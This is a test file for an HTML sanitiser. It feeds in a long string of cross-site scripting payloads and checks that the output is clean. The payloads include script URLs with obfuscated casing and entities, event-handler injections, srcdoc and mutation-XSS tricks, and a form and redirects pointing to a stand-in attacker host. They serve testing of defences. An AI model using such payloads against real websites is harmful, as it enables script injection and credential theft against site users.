import { describe, expect, it } from 'vitest';
import { ID_PREFIX, sanitizeHtml, sanitizeToFragment } from './sanitize';

/** The sanitised markup, parsed again, so assertions look at elements, not strings. */
function clean(html: string): HTMLElement {
  const holder = document.createElement('div');
  holder.innerHTML = sanitizeHtml(html);
  return holder;
}

/** Every attribute value of the result, lower-cased, to look for script URLs anywhere. */
function allAttributes(root: Element): string[] {
  return Array.from(root.querySelectorAll('*')).flatMap((el) =>
    Array.from(el.attributes).map((a) => `${a.name}=${a.value}`.toLowerCase()),
  );
}

const HOSTILE = `
<script>alert(1)</script>
<p onclick="alert(2)" onmouseover="alert(3)">Hello <b>world</b></p>
<img src="x" onerror="alert(4)" alt="broken">
<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCg1KTwvc2NyaXB0Pg==" alt="html as image">
<img src="data:image/png;base64,iVBORw0KGgo=" alt="a real image">
<a href="javascript:alert(6)">js link</a>
<a href="JaVaScRiPt:alert(7)">mixed case</a>
<a href="jav&#x09;ascript:alert(8)">tab inside</a>
<a href="&#106;avascript:alert(9)">entity</a>
<a href="vbscript:msgbox(10)">vb</a>
<a href="data:text/html,<script>alert(11)</script>">data link</a>
<iframe src="javascript:alert(12)"></iframe>
<iframe src="data:text/html,<script>alert(13)</script>"></iframe>
<iframe srcdoc="<script>alert(14)</script>"></iframe>
<iframe src="https://video.example/embed/1" allow="camera; microphone" title="ok"></iframe>
<svg onload="alert(15)"><script>alert(16)</script></svg>
<form action="https://evil.example"><input name="password"><button formaction="javascript:alert(19)">go</button></form>
<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">
<meta http-equiv="refresh" content="0;url=https://evil.example">
<base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/x.css">
<style>body { display: none } @import url(https://evil.example/x.css);</style>
<div style="position:fixed;inset:0;background:url(javascript:alert(20))">overlay</div>
<div class="skip-link toast-region toggle">classes</div>
<table background="javascript:alert(21)"><tr><td>cell</td></tr></table>
<details open ontoggle="alert(22)"><summary>s</summary>d</details>
<a href="https://elsewhere.example" target="_blank">new window</a>
<a href="https://elsewhere.example" target="somewhere" rel="opener">named window</a>
<a href="/learn/courses" target="_self">same window</a>
<h2 id="overview">Overview</h2><a href="#overview">jump</a>
<video src="javascript:alert(23)" poster="javascript:alert(24)"></video>
<noscript><p title="</noscript><img src=x onerror=alert(18)>"></noscript>
<math><mtext><table><mglyph><style><img src=x onerror=alert(17)>
`;

describe('sanitizeHtml with hostile HTML', () => {
  const root = clean(HOSTILE);
  const attributes = allAttributes(root);

  it('keeps the harmless markup', () => {
    expect(root.querySelector('p b')?.textContent).toBe('world');
    expect(root.textContent).toContain('overlay');
    expect(root.querySelector('table td')?.textContent).toBe('cell');
  });

  it('drops every script element and inline handler', () => {
    expect(root.querySelector('script')).toBeNull();
    expect(attributes.filter((a) => a.startsWith('on'))).toEqual([]);
    expect(sanitizeHtml(HOSTILE)).not.toMatch(/alert\((1|2|3|4|15|16|17|18|22)\)/);
  });

  it('lets no javascript:, vbscript: or data: script URL survive', () => {
    expect(attributes.filter((a) => /javascript:|vbscript:|data:text/.test(a))).toEqual([]);
    const links = Array.from(root.querySelectorAll('a')).map((a) => [a.textContent, a.getAttribute('href')]);
    for (const name of ['js link', 'mixed case', 'tab inside', 'entity', 'vb', 'data link']) {
      expect(links.find(([text]) => text === name)?.[1] ?? null).toBeNull();
    }
  });

  it('keeps data: URLs only as images', () => {
    expect(root.querySelector('img[alt="a real image"]')?.getAttribute('src')).toMatch(/^data:image\/png/);
    expect(root.querySelector('img[alt="html as image"]')?.hasAttribute('src')).toBe(false);
  });

  it('keeps iframes only with an http(s) source, sandboxed, with a fixed permission list', () => {
    const frames = root.querySelectorAll('iframe');
    expect(frames).toHaveLength(1);
    const frame = frames[0]!;
    expect(frame.getAttribute('src')).toBe('https://video.example/embed/1');
    expect(frame.getAttribute('sandbox')).toContain('allow-scripts');
    expect(frame.getAttribute('allow')).not.toMatch(/camera|microphone/);
    expect(frame.hasAttribute('srcdoc')).toBe(false);
  });

  it('runs a frame of this origin in an opaque origin, so its script cannot reach the portal', () => {
    const frame = clean(`<iframe src="${window.location.origin}/files/page.html"></iframe>`).querySelector('iframe')!;
    const sandbox = frame.getAttribute('sandbox')!.split(' ');
    expect(sandbox).not.toContain('allow-same-origin');
    expect(sandbox).not.toContain('allow-top-navigation');
  });

  it('lets no style-based trick survive: no style element, attribute, stylesheet or app class', () => {
    expect(root.querySelector('style, link, [style], [background]')).toBeNull();
    const classes = Array.from(root.querySelectorAll('[class]')).map((el) => el.getAttribute('class'));
    expect(classes).toEqual(['toggle']);
  });

  it('drops forms, plug-ins, meta refresh, base and svg', () => {
    expect(root.querySelector('form, input, button, object, embed, meta, base, svg, math')).toBeNull();
  });

  it('opens new windows without opener or referrer', () => {
    const anchors = Array.from(root.querySelectorAll('a[href^="https://elsewhere"]'));
    expect(anchors).toHaveLength(2);
    for (const a of anchors) {
      expect(a.getAttribute('target')).toBe('_blank');
      expect(a.getAttribute('rel')).toBe('noopener noreferrer');
    }
    const same = root.querySelector('a[href="/learn/courses"]')!;
    expect(same.hasAttribute('target')).toBe(false);
  });

  it('prefixes ids and the in-page links to them, so content never takes an id of the app', () => {
    expect(root.querySelector('h2')?.id).toBe(`${ID_PREFIX}overview`);
    expect(root.querySelector('a[href^="#"]')?.getAttribute('href')).toBe(`#${ID_PREFIX}overview`);
    const fragment = sanitizeToFragment('<h3 id="main">x</h3>');
    expect(fragment.querySelector('#main')).toBeNull();
  });

  it('drops the sources of videos that are script URLs', () => {
    const video = root.querySelector('video');
    expect(video?.hasAttribute('src')).toBe(false);
    expect(video?.hasAttribute('poster')).toBe(false);
  });
});
